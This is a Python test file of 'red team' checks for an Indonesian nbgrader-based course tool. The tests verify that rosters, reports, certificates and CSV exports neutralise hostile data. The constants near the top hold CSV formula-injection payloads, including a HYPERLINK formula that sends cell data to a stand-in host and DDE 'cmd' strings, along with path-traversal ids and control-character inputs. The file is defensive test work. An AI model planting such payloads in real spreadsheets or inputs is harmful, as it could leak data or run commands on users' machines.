"""Red team: reports, certificates, exports and inputs that data cannot weaponise (issue 14, item 6).

Every attack goes through the real ``bimtek`` command (and real ``nbgrader export``) on a real
gradebook written by nbgrader's own API (``tests/synthetic.py``), the roster through
``bimtek roster import``. Each asserts the exact outcome: the neutralised cell, the literal
text read back from the PDF, the one-line Indonesian refusal and its exit status, and that no
partial output remains.
"""

from __future__ import annotations

import csv
import html
import io
import os
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pypdf
import pytest
import sqlalchemy as sa

from course.instructor import gradebook as gbk
from course.instructor.safe_output import PLAIN_NUMBER, neutralise_cell

from . import synthetic
from .conftest import ROOT
from .grading_support import bimtek, nbgrader_env, run_nbgrader

S00, S08 = "00-pengantar", "08-tes-akhir"
N = synthetic.N_ITEMS

EQ = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
EMAIL_PLUS = "+62-812@contoh.go.id"
DOLLAR_FIRST = r"$\frac{1}{0}$"
DOLLAR_LAST = r"Rp$5$ \\ x_1^2 {b}"
DOLLAR_KAB = r"Kab. $\undefinedmacro$ \ _ ^ {}"
PATH_KAB = "../../etc"
PATH_ID = "../../jahat"

# id: (nama_depan, nama_belakang, email, kabupaten), as the roster file gives them.
ROSTER = {
    "p_eq": (EQ, "Aman", "p_eq@contoh.go.id", "Kabupaten Agam"),
    "p_plus": ("Budi", PLUS, "p_plus@contoh.go.id", "Kabupaten Agam"),
    "p_minus": ("Dewi", "Lestari", "p_minus@contoh.go.id", MINUS),
    "p_at": ("Rina", "Wati", EMAIL_PLUS, AT),
    "p_dollar": (DOLLAR_FIRST, DOLLAR_LAST, "p_dollar@contoh.go.id", DOLLAR_KAB),
    "p_path": ("Putu", "Ayu", "p_path@contoh.go.id", PATH_KAB),
}
CERT_ARGS = ["certificates", "--mulai", "2025-03-03", "--jam", "24"]


def roster_text(rows: dict, header=("id", "nama_depan", "nama_belakang", "email", "kabupaten")) -> str:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([pid, *values] for pid, values in rows.items())
    return buffer.getvalue()


def cohort_scores() -> dict:
    """Everyone completes 00 and 07 with every Tes Awal item 1..9; p_minus falls to 3 items (a negative gain)."""
    scores = {}
    for pid in [*ROSTER, PATH_ID]:
        scores[(pid, S00)] = {f"tes_awal_{n:02d}": 1.0 for n in range(1, 10)}
        post = range(1, 4) if pid == "p_minus" else range(1, N + 1)
        scores[(pid, S08)] = {f"tes_akhir_{n:02d}": 1.0 for n in post}
    return scores


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Path:
    """A gradebook with plain names, then the hostile roster through `bimtek roster import`."""
    root = synthetic.course(tmp_path_factory.mktemp("redteam") / "kursus")
    plain = [
        {"id": pid, "first_name": "Nama", "last_name": None, "email": f"x{i}@contoh.go.id", "kabupaten": "Kab. X"}
        for i, pid in enumerate([*ROSTER, PATH_ID])
    ]
    synthetic.fill(root, [S00, S08], plain, cohort_scores())
    (root / "peserta.csv").write_text(roster_text(ROSTER), encoding="utf-8")
    proc = bimtek(["roster", "import", "peserta.csv"], root)
    assert proc.returncode == 0, proc.stderr
    assert "0 peserta baru dan 6 peserta diperbarui" in proc.stdout
    return root


def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def formula_cells(path: Path) -> list[str]:
    """Every cell a spreadsheet would run as a formula (text beginning with = + - @ tab CR, not a number)."""
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(c)]


def pdf_text(path: Path) -> str:
    reader = pypdf.PdfReader(path)
    assert len(reader.pages) == 1
    return " ".join(reader.pages[0].extract_text().split())


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def leftovers(folder: Path) -> list[str]:
    """Temporary folders ``publish_folder`` would leave behind on a failure."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") and p.name.endswith((".tmp", ".old")))


def limited_file_size(limit: int):
    """A real resource limit for the child: writes past ``limit`` bytes fail with EFBIG (as on a full disk)."""

    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return apply


def bimtek_limited(args: list[str], root: Path, limit: int) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "course.instructor.cli", *args],
        cwd=root,
        env=nbgrader_env(root),
        capture_output=True,
        text=True,
        timeout=600,
        preexec_fn=limited_file_size(limit),
    )


# ------------------------------------------------------------------ 1. formula injection in every CSV


@pytest.fixture(scope="module")
def report(course) -> Path:
    proc = bimtek(["report", "--keluaran", "laporan"], course)
    assert proc.returncode == 0, proc.stderr
    return course / "laporan"


@pytest.fixture(scope="module")
def certificates(course) -> Path:
    proc = bimtek(CERT_ARGS, course)
    assert proc.returncode == 0, proc.stderr
    assert "7 sertifikat penyelesaian" in proc.stdout
    return course / "sertifikat"


def test_formula_in_kabupaten_is_neutralised_in_laporan_csv(report):
    rows = read_csv(report / "laporan.csv")
    kabupaten = {r["peserta"]: r["kabupaten"] for r in rows if r["bagian"] == "nilai_peserta"}
    assert kabupaten["p_minus"] == "'" + MINUS
    assert kabupaten["p_at"] == "'" + AT
    assert kabupaten["p_path"] == PATH_KAB
    per_kab = {r["kabupaten"] for r in rows if r["bagian"] == "kabupaten"}
    assert {"'" + MINUS, "'" + AT, DOLLAR_KAB} <= per_kab
    # Numbers stay numbers: p_minus's Hake gain (3/18 - 9/18) / (1 - 9/18) is a plain negative number.
    gain = [r for r in rows if r["bagian"] == "gain_peserta" and r["peserta"] == "p_minus" and r["ukuran"] == "g"]
    assert [r["nilai"] for r in gain] == ["-0.666667"]
    assert formula_cells(report / "laporan.csv") == []


def test_formula_in_names_and_kabupaten_is_neutralised_in_the_certificate_listing(certificates):
    rows = {r["id"]: r for r in read_csv(certificates / "daftar-sertifikat.csv")}
    assert rows["p_eq"]["nama"] == "'" + EQ + " Aman"
    assert rows["p_plus"]["nama"] == "Budi " + PLUS  # not at the start of the cell: no formula
    assert rows["p_minus"]["kabupaten"] == "'" + MINUS
    assert rows["p_at"]["kabupaten"] == "'" + AT
    assert formula_cells(certificates / "daftar-sertifikat.csv") == []


def test_formula_in_names_and_email_is_neutralised_in_the_nbgrader_export(course):
    for pid, session in cohort_scores():
        if pid == PATH_ID:
            continue  # nbgrader's own folders for this id would lie outside the course: not ours to test here
        (course / "autograded" / pid / session).mkdir(parents=True, exist_ok=True)  # as `bimtek autograde` leaves
    run_nbgrader(["export", "--to", "nilai.csv"], course)
    rows = {(r["student_id"], r["assignment"]): r for r in read_csv(course / "nilai.csv")}
    assert rows[("p_eq", S00)]["first_name"] == "'" + EQ
    assert rows[("p_plus", S00)]["last_name"] == "'" + PLUS
    assert rows[("p_at", S08)]["email"] == "'" + EMAIL_PLUS
    assert rows[("p_eq", S00)]["score"] == "9.0" and rows[("p_eq", S00)]["status"] == "dinilai"
    assert formula_cells(course / "nilai.csv") == []


def test_formula_headlines_are_neutralised_in_the_judul_csv(tmp_path):
    source = tmp_path / "judul.csv"
    titles = [EQ, AT, "+62 812 nomor aduan baru", "-5 persen angka kemiskinan turun", "Bupati meresmikan pasar"]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows([["title"], *([t] for t in titles)])
    source.write_text(buffer.getvalue(), encoding="utf-8")
    proc = bimtek(["judul", str(source), "--keluaran", str(tmp_path / "hasil.csv")], tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = [r["title"] for r in read_csv(tmp_path / "hasil.csv")]
    assert out == ["'" + EQ, "'" + AT, "'+62 812 nomor aduan baru", "'-5 persen angka kemiskinan turun", titles[4]]
    stdout = bimtek(["judul", str(source)], tmp_path)
    assert stdout.returncode == 0 and [r["title"] for r in csv.DictReader(io.StringIO(stdout.stdout))] == out
    assert formula_cells(tmp_path / "hasil.csv") == []


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-1.5", "-1.5"),
        ("-1.5e3", "-1.5e3"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (-1.5, -1.5),
        (None, ""),
        ("Kabupaten Agam", "Kabupaten Agam"),
    ],
)
def test_the_owasp_rule_and_numbers(cell, written):
    assert neutralise_cell(cell) == written


# ------------------------------------------------------------------ 2. mathtext from data


def test_dollar_and_backslashes_draw_literally_on_the_certificate(certificates):
    text = pdf_text(certificates / "sertifikat-p_dollar.pdf")
    assert f"{DOLLAR_FIRST} {DOLLAR_LAST}" in text, text
    assert DOLLAR_KAB in text, text
    meta = pypdf.PdfReader(certificates / "sertifikat-p_dollar.pdf").metadata
    assert meta.title == f"Sertifikat penyelesaian: {DOLLAR_FIRST} {DOLLAR_LAST}"
    assert "'" + EQ + " Aman" not in pdf_text(certificates / "sertifikat-p_eq.pdf")  # the PDF is not a CSV
    assert f"{EQ} Aman" in pdf_text(certificates / "sertifikat-p_eq.pdf")


def test_dollar_in_kabupaten_does_not_stop_the_report(report):
    names = sorted(p.name for p in report.iterdir())
    assert names == sorted(
        [
            "gain_butir.png",
            "gain_peserta.png",
            "index.html",
            "kesukaran_butir.png",
            "laporan.csv",
            "nilai_per_kabupaten.png",
            "nilai_per_sesi.png",
            "penyelesaian.png",
        ]
    )
    page = (report / "index.html").read_text(encoding="utf-8")
    assert html.escape(DOLLAR_KAB) in page and html.escape(MINUS) in page
    assert leftovers(report.parent) == []


# ------------------------------------------------------------------ 3. path tricks in derived file names


def test_ids_and_kabupaten_with_path_tricks_stay_inside_the_output_folder(course, certificates):
    files = sorted(p.name for p in certificates.iterdir())
    rows = {r["id"]: r for r in read_csv(certificates / "daftar-sertifikat.csv")}
    jahat = rows[PATH_ID]["berkas"]
    assert jahat.startswith("sertifikat-_.._jahat-") and jahat.endswith(".pdf") and "/" not in jahat
    assert files == sorted(["daftar-sertifikat.csv", *(r["berkas"] for r in rows.values())])
    assert all((certificates / r["berkas"]).is_file() for r in rows.values())
    assert PATH_KAB in pdf_text(certificates / "sertifikat-p_path.pdf")
    assert not (course.parent / "jahat").exists() and not (course / "jahat").exists()
    assert not Path("/etc/sertifikat-p_path.pdf").exists()


# ------------------------------------------------------------------ 4. control characters at roster import


def people(root: Path) -> dict:
    eng = gbk.engine(gbk.db_url(root))
    try:
        with eng.connect() as conn:
            names = {r[0]: r[1:] for r in conn.execute(sa.text("SELECT id, first_name, last_name, email FROM student"))}
            kab = dict(conn.execute(sa.select(gbk.PESERTA.c.id, gbk.PESERTA.c.kabupaten)).all())
    finally:
        eng.dispose()
    return {k: (*v, kab.get(k)) for k, v in names.items()}


@pytest.fixture
def empty_course(tmp_path) -> Path:
    shutil.copy2(ROOT / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
    return tmp_path


GOOD_ROW = {"siti": ("Siti", "Aminah", "siti@agamkab.go.id", "Kabupaten Agam")}


@pytest.mark.parametrize(
    "field, value, code",
    [
        (0, "Bu\x00di", "U+0000"),
        (1, "Santoso\x1b[31m", "U+001B"),
        (3, "Kabupaten\tAgam", "U+0009"),
        (3, "Kabupaten\r\nAgam", "U+000D, U+000A"),
        (0, "\u202eidub", "U+202E"),
        (2, "budi\x7f@contoh.go.id", "U+007F"),
        (0, "Budi\x85", "U+0085"),
    ],
)
def test_control_characters_are_refused_with_the_row_and_nothing_is_imported(empty_course, field, value, code):
    (empty_course / "awal.csv").write_text(roster_text(GOOD_ROW), encoding="utf-8")
    assert bimtek(["roster", "import", "awal.csv"], empty_course).returncode == 0
    before = people(empty_course)
    values = ["Budi", "Santoso", "budi@contoh.go.id", "Kabupaten Agam"]
    values[field] = value
    (empty_course / "jahat.csv").write_text(roster_text({"siti": GOOD_ROW["siti"], "budi": values}), encoding="utf-8")
    proc = bimtek(["roster", "import", "jahat.csv"], empty_course)
    key = ("nama_depan", "nama_belakang", "email", "kabupaten")[field]
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        f"Baris 3: {key} berisi karakter kendali yang tak terlihat ({code}); hapus karakter itu "
        "(biasanya terbawa saat menyalin dari aplikasi lain).",
        "Tidak ada yang diimpor: 1 masalah pada 2 baris. Perbaiki berkasnya lalu jalankan lagi.",
    ]
    assert people(empty_course) == before


# ------------------------------------------------------------------ 5. huge fields and lines


def test_a_10_mb_roster_field_is_one_row_numbered_line(empty_course):
    huge = "A" * (10 * 1024 * 1024)
    (empty_course / "besar.csv").write_text(
        roster_text({**GOOD_ROW, "budi": (huge, "", "budi@contoh.go.id", "Kab. X")}), encoding="utf-8"
    )
    proc = bimtek(["roster", "import", "besar.csv"], empty_course)
    length = len(f"budi,{huge},,budi@contoh.go.id,Kab. X")
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        f"Baris 3: terlalu panjang ({length:,} karakter; satu baris paling panjang 10.000 karakter). ".replace(",", ".")
        + "Periksa isian yang sangat panjang atau pemisah baris yang hilang.",
        "Tidak ada yang diimpor: 1 masalah pada 3 baris. Perbaiki berkasnya lalu jalankan lagi.",
    ]
    assert not (empty_course / "gradebook.db").exists()
    # Under the line limit but over the field limit: the field's own limit, with its row.
    (empty_course / "panjang.csv").write_text(
        roster_text({"budi": ("B" * 300, "", "budi@contoh.go.id", "K" * 201)}), encoding="utf-8"
    )
    proc = bimtek(["roster", "import", "panjang.csv"], empty_course)
    assert proc.returncode == 1 and proc.stderr.splitlines()[0] == (
        "Baris 2: nama_depan terlalu panjang (lebih dari 128 karakter); "
        "kabupaten terlalu panjang (lebih dari 200 karakter)."
    )
    assert "Galat tak terduga" not in proc.stderr and not (empty_course / "gradebook.db").exists()


def test_a_10_mb_headline_line_says_the_line_is_too_long(tmp_path):
    source = tmp_path / "judul.csv"
    source.write_text("title\nBupati meresmikan pasar\n" + "A" * (10 * 1024 * 1024) + "\n", encoding="utf-8")
    (tmp_path / "hasil.csv").write_text("hasil lama\n", encoding="utf-8")
    proc = bimtek(["judul", str(source), "--keluaran", str(tmp_path / "hasil.csv")], tmp_path)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [
        f"Masukan tidak dapat digunakan: baris 3 berkas {source} terlalu panjang (10.485.760 karakter; "
        "paling panjang 100.000 karakter per baris). Petunjuk: Periksa apakah pemisah barisnya hilang saat "
        "berkas disimpan, lalu simpan ulang dengan satu entri per baris."
    ]
    assert (tmp_path / "hasil.csv").read_text(encoding="utf-8") == "hasil lama\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hasil.csv", "judul.csv"]


# ------------------------------------------------------------------ 6. mistyped notebook JSON to lint


@pytest.mark.parametrize(
    "content, what",
    [
        ("[]", "isinya daftar, bukan objek notebook"),
        ("{}", '"cells" tidak ada'),
        ('{"cells": 5}', '"cells" berupa angka, bukan daftar sel'),
        ('{"cells": [[]]}', "sel 1 berupa daftar, bukan objek sel"),
        ('{"cells": [{"cell_type": "code", "source": 7}]}', '"source" sel 1 berupa angka, bukan teks'),
        ('{"cells": [{"metadata": {"nbgrader": []}}]}', '"metadata.nbgrader" sel 1 berupa daftar, bukan objek'),
        ('{"cells": [{"metadata": {"nbgrader": {"grade_id": [1]}}}]}', '"grade_id" sel 1 berupa daftar, bukan teks'),
        ("[" * 200_000 + "]" * 200_000, "JSON-nya bersarang terlalu dalam"),
        ('{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}", "JSON-nya bersarang terlalu dalam"),
    ],
)
def test_mistyped_notebook_json_is_a_broken_notebook(tmp_path, content, what):
    path = tmp_path / "rusak.ipynb"
    path.write_text(content, encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "course.instructor.cli", "lint", str(path)],
        capture_output=True,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert proc.returncode == 1
    assert proc.stdout.splitlines() == [
        f"{path}: notebook rusak, tidak dapat dibaca sebagai notebook: {what}. "
        "Pulihkan dari git atau buka dan simpan ulang di JupyterLab."
    ]
    assert proc.stderr.splitlines() == ["1 masalah ditemukan pada 1 notebook."]
    assert path.read_text(encoding="utf-8") == content


# ------------------------------------------------------------------ 7. no partial output on failure


def test_a_report_that_fails_midway_leaves_the_previous_report(course, report):
    before = tree(report)
    proc = bimtek_limited(["report", "--keluaran", "laporan"], course, limit=20_000)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.splitlines() == [
        f"Galat: folder {report} tidak dapat ditulis (File too large); hasil sebelumnya tidak diubah. "
        "Petunjuk: Periksa izin tulis dan ruang disk, lalu jalankan lagi."
    ]
    assert tree(report) == before
    assert leftovers(course) == []
    fresh = bimtek_limited(["report", "--keluaran", "laporan-baru"], course, limit=20_000)
    assert fresh.returncode == 2 and not (course / "laporan-baru").exists() and leftovers(course) == []


def test_certificates_that_fail_midway_leave_the_previous_folder(course, certificates):
    before = tree(certificates)
    proc = bimtek_limited(CERT_ARGS, course, limit=15_000)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.splitlines() == [
        f"Galat: folder {certificates} tidak dapat ditulis (File too large); hasil sebelumnya tidak diubah. "
        "Petunjuk: Periksa izin tulis dan ruang disk, lalu jalankan lagi."
    ]
    assert tree(certificates) == before
    assert leftovers(course) == []


def test_a_shared_output_folder_keeps_other_files_and_drops_stale_certificates(course, tmp_path):
    shared = tmp_path / "bersama"
    shared.mkdir()
    (shared / "catatan.txt").write_text("catatan panitia\n", encoding="utf-8")
    (shared / "sertifikat-lama.pdf").write_bytes(b"%PDF lama")
    proc = bimtek([*CERT_ARGS, "--keluaran", str(shared)], course)
    assert proc.returncode == 0, proc.stderr
    assert (shared / "catatan.txt").read_text(encoding="utf-8") == "catatan panitia\n"
    assert not (shared / "sertifikat-lama.pdf").exists()
    assert len(list(shared.glob("sertifikat-*.pdf"))) == 7 and leftovers(tmp_path) == []
    (shared / "sertifikat-p_eq.pdf").unlink()
    (shared / "sertifikat-p_eq.pdf").mkdir()
    before = tree(shared)
    proc = bimtek([*CERT_ARGS, "--keluaran", str(shared)], course)
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [
        f"Galat: {shared / 'sertifikat-p_eq.pdf'} adalah folder, jadi berkas sertifikat-p_eq.pdf tidak dapat "
        "ditulis; tidak ada yang diubah. Petunjuk: Pindahkan folder itu atau pilih folder lain untuk --keluaran."
    ]
    assert tree(shared) == before and leftovers(tmp_path) == []
